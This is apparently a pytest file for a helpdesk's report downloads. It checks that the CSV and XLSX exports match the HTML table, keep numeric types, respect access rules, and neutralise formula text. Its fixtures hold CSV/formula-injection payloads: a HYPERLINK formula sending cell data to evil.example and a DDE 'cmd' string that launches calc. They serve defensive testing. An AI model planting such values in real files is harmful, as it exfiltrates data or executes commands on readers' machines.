"""The desk report's downloads: the CSV and the XLSX hold exactly the HTML table (same
rows, same values once parsed), numbers stay numbers in the XLSX, user text never
becomes a formula in either, and whoever may not open the page gets no file."""

import csv
import io
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from portal.csv import is_formula_text
from tickets.desk import exports, reports

from .factories import OrganizationFactory, QueueFactory, make_agent, make_customer
from .test_desk_reports import DAY, T0, make

pytestmark = pytest.mark.django_db
URL = "/admin/helpdesk/reports/"
PARAMS = {"start": "2025-03-10", "end": "2025-03-10"}
EVIL_ORG = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_QUEUE = "+1+cmd|' /C calc'!A0"
EVIL_AGENT = "@SUM(1+1)"
EVIL_ORG_2 = "-2+3"


@pytest.fixture
def dataset(alice, queue, other_queue, acme, agent):
    make(alice, queue, org=acme, hours_to_reply=1, hours_to_resolve=10, rating=5)
    make(alice, queue, org=acme, hours_to_reply=3, hours_to_resolve=30, rating=2)
    loner = make_customer()
    make(loner, queue, hours_to_reply=2, breached=True, assignee=agent)
    make(loner, other_queue, hours_to_reply=6, hours_to_resolve=20, rating=4)
    # a long one, resolved on the day (3,000 h, which the page groups) and rated
    make(
        loner,
        other_queue,
        created=T0 - timedelta(hours=3000),
        hours_to_reply=1,
        hours_to_resolve=3000,
        rating=4,
    )


@pytest.fixture
def evil_names(db):
    """Names a hostile customer or admin could choose, each starting a formula."""
    evil_queue = QueueFactory(name=EVIL_QUEUE, slug="evil")
    agent = make_agent(evil_queue, display_name=EVIL_AGENT)
    for name, slug in ((EVIL_ORG, "evil-org"), (EVIL_ORG_2, "evil-org-2")):
        org = OrganizationFactory(name=name, slug=slug)
        make(make_customer(org), evil_queue, org=org, assignee=agent, created=T0)


def html_table(response) -> list[list[str]]:
    soup = BeautifulSoup(response.content.decode(), "html.parser")
    table = soup.select_one("table.desk-report")
    head = [th.get_text() for th in table.select("thead th")]
    body = [
        [cell.get_text() for cell in tr.find_all(["th", "td"])]
        for tr in table.select("tbody tr")
    ]
    return [head, *body]


def csv_table(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def xlsx_table(response) -> list[list]:
    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


def value(cell):
    """A cell of any of the three, as the reader understands it: numbers as Decimal
    (the page's digit grouping removed), empty as "", text as text (the CSV's
    neutralising quote removed: a reader shows the text without it)."""
    if cell is None or cell == "":
        return ""
    if isinstance(cell, int | float):
        return Decimal(str(cell))
    if cell.startswith("'") and is_formula_text(cell[1:]):
        return cell[1:]
    try:
        return Decimal(cell.replace(",", ""))
    except ArithmeticError:
        return cell


def parsed(table):
    return [[value(cell) for cell in row] for row in table]


def get(client, user, **params):
    client.force_login(user)
    return client.get(URL, {**PARAMS, **params})


@pytest.mark.parametrize("dimension", ["queue", "agent", "organization"])
def test_csv_and_xlsx_equal_the_html_table(client, supervisor, dataset, dimension):
    page = get(client, supervisor, dimension=dimension)
    as_csv = get(client, supervisor, dimension=dimension, format="csv")
    as_xlsx = get(client, supervisor, dimension=dimension, format="xlsx")
    assert page.status_code == as_csv.status_code == as_xlsx.status_code == 200
    table = parsed(html_table(page))
    assert len(table) == len(reports.report_rows(supervisor, dimension, DAY, DAY)) + 1
    assert parsed(csv_table(as_csv)) == table
    assert parsed(xlsx_table(as_xlsx)) == table


def test_the_table_holds_the_known_figures(client, supervisor, dataset):
    """The shared table is right, not only shared. Each ticket counts on the day its
    event happened (tickets.statistics): Billing on 10 March created one ticket
    (answered after 6 h, open at the day's end, resolved and rated the next day) and
    resolved the long one (3,000 h, its SLA missed, rated 4; answered in December)."""
    table = html_table(get(client, supervisor, dimension="queue"))
    assert table[1] == ["Billing", "1", "1", "1", "6.0", "3,000.0", "0.0", "4.00", "1"]
    assert [row[:2] for row in table[2:]] == [["Support", "3"], ["Total", "4"]]


def test_xlsx_numbers_are_numbers_with_formats_and_the_sheet_is_dressed(
    client, supervisor, dataset
):
    response = get(client, supervisor, dimension="queue", format="xlsx")
    assert response["Content-Type"] == exports.XLSX_TYPE
    assert response["Content-Disposition"] == (
        'attachment; filename="helpdesk-queue-2025-03-10-2025-03-10.xlsx"'
    )
    sheet = xlsx_sheet(response)
    assert sheet.title == "Queue"
    assert sheet.parent.properties.title == (
        "Helpdesk report by queue, 2025-03-10 – 2025-03-10"
    )
    header = sheet[1]
    assert [c.value for c in header] == reports.headers("queue")
    assert all(c.font.b for c in header)
    assert sheet.freeze_panes == "A2"
    billing = sheet[2]
    assert [c.value for c in billing] == ["Billing", 1, 1, 1, 6, 3000, 0, 4, 1]
    assert [c.data_type for c in billing] == ["s"] + ["n"] * 8
    assert [c.number_format for c in billing[1:]] == [
        "#,##0",
        "#,##0",
        "#,##0",
        "#,##0.0",
        "#,##0.0",
        "#,##0.0",
        "#,##0.00",
        "#,##0",
    ]
    total = sheet[sheet.max_row]
    assert total[0].value == "Total" and all(c.font.b for c in total)
    assert not billing[0].font.b
    widths = [sheet.column_dimensions[c].width for c in "ABCDEFGHI"]
    assert widths[0] == 9  # "Billing"/"Support", 7 characters + 2, at least 8
    assert widths[4] == len("Median first response (h)") + 2


def test_formula_names_are_text_in_the_csv_and_the_xlsx(client, supervisor, evil_names):
    for dimension, names in (
        ("queue", [EVIL_QUEUE]),
        ("agent", [EVIL_AGENT]),
        ("organization", [EVIL_ORG, EVIL_ORG_2]),
    ):
        as_csv = csv_table(get(client, supervisor, dimension=dimension, format="csv"))
        sheet = xlsx_sheet(get(client, supervisor, dimension=dimension, format="xlsx"))
        csv_labels = [row[0] for row in as_csv[1:]]
        cells = {c.value: c for c in sheet["A"][1:]}
        for name in names:
            assert "'" + name in csv_labels
            cell = cells[name]  # stored as typed, as text
            assert cell.data_type == "s"
            assert cell.quotePrefix is True
        page = html_table(get(client, supervisor, dimension=dimension))
        assert set(names) <= {row[0] for row in page}


def test_the_xlsx_file_has_no_formula_at_all(client, supervisor, evil_names):
    """Read back without openpyxl's help: no formula element in the sheet, the names
    stored as inline text."""
    response = get(client, supervisor, dimension="organization", format="xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="inlineStr"><is><t>=HYPERLINK(' in sheet_xml
    assert 't="inlineStr"><is><t>-2+3</t>' in sheet_xml


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_an_agent_exports_only_their_queues(client, agent, dataset, export_format):
    response = get(client, agent, dimension="queue", format=export_format)
    assert response.status_code == 200
    table = (csv_table if export_format == "csv" else xlsx_table)(response)
    assert [row[0] for row in table[1:]] == ["Support", "Total"]
    assert value(table[-1][1]) == 3  # Support's three tickets, not Billing's two


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_customer_gets_no_file_like_no_page(client, alice, dataset, export_format):
    page = get(client, alice)
    response = get(client, alice, format=export_format)
    # Wagtail's admin-access check turns customers away before the desk's own
    assert page.status_code == response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    assert "Content-Disposition" not in response


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_anonymous_is_sent_to_sign_in(client, dataset, export_format):
    response = client.get(URL, {**PARAMS, "format": export_format})
    assert response.status_code == 302
    assert "/login/" in response["Location"]


def test_a_bad_range_is_a_400_not_a_file(client, supervisor):
    response = get(
        client, supervisor, start="2025-03-10", end="2025-03-01", format="xlsx"
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "The start date must not be after the end date." in response.content.decode()


def test_an_unknown_format_shows_the_page(client, supervisor, dataset):
    response = get(client, supervisor, format="pdf")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_the_page_links_both_downloads(client, supervisor, dataset):
    html = get(client, supervisor, dimension="agent").content.decode()
    assert "format=csv" in html and "format=xlsx" in html
    assert "Download Excel (XLSX)" in html
